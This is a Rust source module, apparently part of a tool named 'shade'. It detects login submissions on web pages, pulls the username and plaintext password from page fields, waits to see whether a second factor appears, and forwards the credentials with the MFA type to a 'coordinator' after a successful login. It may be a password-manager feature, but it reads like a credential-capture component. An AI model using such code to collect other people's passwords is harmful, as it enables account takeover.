//! Reconciles a submit trigger, an optional late second factor and the
//! outcome check into at most one dispatched login per attempt.
//!
//! `Idle -> (trigger) -> MfaWait | OutcomeCheck -> Dispatched | Discarded`
//!
//! Each attempt runs as its own task. A new trigger in the same page context
//! cancels the task in flight, so only the newest attempt can dispatch.

use crate::classifier::{InputRole, classify};
use crate::context::{ContextState, Shared};
use crate::outcome::Outcome;
use crate::page::{Page, lock};
use chrono::Utc;
use secrecy::SecretString;
use shade_common::{LoginDetected, MfaKind};
use std::sync::Arc;
use tokio::task::JoinHandle;
use tokio::time::{Instant, sleep_until};
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttemptState {
    Idle,
    MfaWait,
    OutcomeCheck,
    Dispatched,
    Discarded,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DiscardReason {
    /// A newer attempt in the same page context replaced this one.
    Superseded,
    /// The same (origin, account) was dispatched within the debounce window.
    Debounced,
    LoginFailed,
    DeliveryFailed,
    /// The attempt task died before settling.
    Aborted,
}

/// Summary of a dispatched login. Carries no credential material.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Dispatched {
    pub origin: String,
    pub username: String,
    pub mfa_present: bool,
    pub mfa_type: Option<MfaKind>,
    pub outcome: Outcome,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttemptOutcome {
    Dispatched(Dispatched),
    Discarded(DiscardReason),
}

#[derive(Debug)]
pub struct PendingAttempt {
    pub origin: String,
    pub username: String,
    password: SecretString,
    pub created_at: Instant,
    pub mfa_deadline_at: Option<Instant>,
    pub state: AttemptState,
    pub mfa: Option<MfaKind>,
    generation: u64,
    cancel: CancellationToken,
    mfa_wait: CancellationToken,
}

impl PendingAttempt {
    fn abort(&self) {
        self.cancel.cancel();
    }
}

/// Join handle for one attempt.
#[derive(Debug)]
pub struct AttemptHandle {
    generation: u64,
    task: JoinHandle<AttemptOutcome>,
}

impl AttemptHandle {
    pub fn generation(&self) -> u64 {
        self.generation
    }

    pub async fn outcome(self) -> AttemptOutcome {
        match self.task.await {
            Ok(outcome) => outcome,
            Err(e) => {
                warn!(error = %e, "login attempt task failed");
                AttemptOutcome::Discarded(DiscardReason::Aborted)
            }
        }
    }
}

/// Username and password for a trigger: the capture buffer first, then the
/// first registered fields by position, then anything on the page.
pub(crate) fn assemble(state: &ContextState, page: &dyn Page) -> Option<(String, SecretString)> {
    if let Some(credentials) = state.capture.credentials() {
        return Some(credentials);
    }

    if let (Some(username), Some(password)) = (
        state.observer.first_value(InputRole::Username),
        state.observer.first_value(InputRole::Password),
    ) {
        return Some((username, SecretString::from(password)));
    }

    search_page(page)
}

fn search_page(page: &dyn Page) -> Option<(String, SecretString)> {
    let nodes = page.nodes();
    let mut fields = nodes.iter().filter(|n| n.is_field());

    let password = fields
        .clone()
        .find(|n| n.control_type().eq_ignore_ascii_case("password"))?
        .value();
    let username = fields
        .find(|n| classify(&n.descriptor()) == InputRole::Username)?
        .value();

    if username.is_empty() || password.is_empty() {
        return None;
    }
    Some((username, SecretString::from(password)))
}

fn observed_mfa(state: &ContextState) -> Option<MfaKind> {
    if state.observer.has_live(InputRole::MfaCode) || state.capture.has_mfa_code() {
        InputRole::MfaCode.mfa_kind()
    } else {
        None
    }
}

/// Starts a new attempt, cancelling any attempt already in flight.
pub(crate) fn begin(shared: &Arc<Shared>, state: &mut ContextState) -> Option<AttemptHandle> {
    let Some((username, password)) = assemble(state, &*shared.page) else {
        debug!("trigger without a complete credential pair, ignoring");
        return None;
    };

    let origin = shared.page.origin();
    if shared.debounce.is_suppressed(&origin, &username) {
        debug!(%origin, "trigger inside debounce window, ignoring");
        return None;
    }

    if let Some(prior) = state.pending.take() {
        debug!(origin = %prior.origin, "superseding login attempt in flight");
        prior.abort();
    }

    state.generation += 1;
    let generation = state.generation;
    let now = Instant::now();
    let mfa = observed_mfa(state);
    let deadline = mfa.is_none().then(|| now + shared.config.mfa_wait());
    let cancel = CancellationToken::new();
    let mfa_wait = cancel.child_token();

    let attempt_state = if deadline.is_some() {
        AttemptState::MfaWait
    } else {
        AttemptState::OutcomeCheck
    };
    debug!(%origin, state = ?attempt_state, "login attempt started");

    state.pending = Some(PendingAttempt {
        origin,
        username,
        password,
        created_at: now,
        mfa_deadline_at: deadline,
        state: attempt_state,
        mfa,
        generation,
        cancel: cancel.clone(),
        mfa_wait: mfa_wait.clone(),
    });

    let task = tokio::spawn(drive(
        Arc::clone(shared),
        generation,
        cancel,
        mfa_wait,
        deadline,
    ));
    Some(AttemptHandle { generation, task })
}

/// Fast path: an MFA field showed up while the attempt was waiting for one.
pub(crate) fn confirm_mfa(state: &mut ContextState, kind: MfaKind) {
    if let Some(pending) = state.pending.as_mut()
        && pending.state == AttemptState::MfaWait
    {
        pending.mfa_wait.cancel();
        pending.state = AttemptState::OutcomeCheck;
        pending.mfa = Some(kind);
        pending.mfa_deadline_at = None;
        info!(origin = %pending.origin, mfa = %kind, "second factor observed");
    }
}

async fn drive(
    shared: Arc<Shared>,
    generation: u64,
    cancel: CancellationToken,
    mfa_wait: CancellationToken,
    deadline: Option<Instant>,
) -> AttemptOutcome {
    if let Some(deadline) = deadline {
        tokio::select! {
            biased;
            _ = cancel.cancelled() => return AttemptOutcome::Discarded(DiscardReason::Superseded),
            _ = mfa_wait.cancelled() => {}
            _ = sleep_until(deadline) => {}
        }

        let mut state = lock(&shared.state);
        let observed = observed_mfa(&state);
        match state.pending.as_mut() {
            Some(pending) if pending.generation == generation => {
                if pending.state == AttemptState::MfaWait {
                    pending.mfa = pending.mfa.or(observed);
                    pending.state = AttemptState::OutcomeCheck;
                    pending.mfa_deadline_at = None;
                    debug!(mfa_present = pending.mfa.is_some(), "second factor wait elapsed");
                }
            }
            _ => return AttemptOutcome::Discarded(DiscardReason::Superseded),
        }
    }

    let outcome = shared.detector.watch(&*shared.page, &cancel).await;
    match outcome {
        Outcome::Cancelled => AttemptOutcome::Discarded(DiscardReason::Superseded),
        Outcome::Failure => {
            let mut state = lock(&shared.state);
            if state.pending.take_if(|p| p.generation == generation).is_some() {
                state.settled = AttemptState::Discarded;
            }
            info!("login failed on page, nothing reported");
            AttemptOutcome::Discarded(DiscardReason::LoginFailed)
        }
        Outcome::Success(_) | Outcome::TimedOut => finalize(&shared, generation, outcome).await,
    }
}

async fn finalize(shared: &Shared, generation: u64, outcome: Outcome) -> AttemptOutcome {
    let attempt = {
        let mut state = lock(&shared.state);
        let attempt = state.pending.take_if(|p| p.generation == generation);
        if attempt.is_some() {
            state.capture.clear();
        }
        attempt
    };
    let Some(attempt) = attempt else {
        return AttemptOutcome::Discarded(DiscardReason::Superseded);
    };

    if !shared.debounce.try_claim(&attempt.origin, &attempt.username) {
        settle(shared, AttemptState::Discarded);
        debug!(origin = %attempt.origin, "already reported inside debounce window");
        return AttemptOutcome::Discarded(DiscardReason::Debounced);
    }

    let summary = Dispatched {
        origin: attempt.origin.clone(),
        username: attempt.username.clone(),
        mfa_present: attempt.mfa.is_some(),
        mfa_type: attempt.mfa,
        outcome,
    };
    let login = LoginDetected {
        origin: attempt.origin,
        username: attempt.username,
        password: attempt.password,
        mfa_present: summary.mfa_present,
        mfa_type: summary.mfa_type,
        captured_at: Utc::now(),
    };

    match shared.sink.login_detected(login).await {
        Ok(()) => {
            settle(shared, AttemptState::Dispatched);
            info!(
                origin = %summary.origin,
                mfa_present = summary.mfa_present,
                ?outcome,
                "login reported to coordinator"
            );
            AttemptOutcome::Dispatched(summary)
        }
        Err(e) => {
            settle(shared, AttemptState::Discarded);
            warn!(origin = %summary.origin, error = %e, "failed to deliver login to coordinator");
            AttemptOutcome::Discarded(DiscardReason::DeliveryFailed)
        }
    }
}

fn settle(shared: &Shared, terminal: AttemptState) {
    let mut state = lock(&shared.state);
    if state.pending.is_none() {
        state.settled = terminal;
    }
}
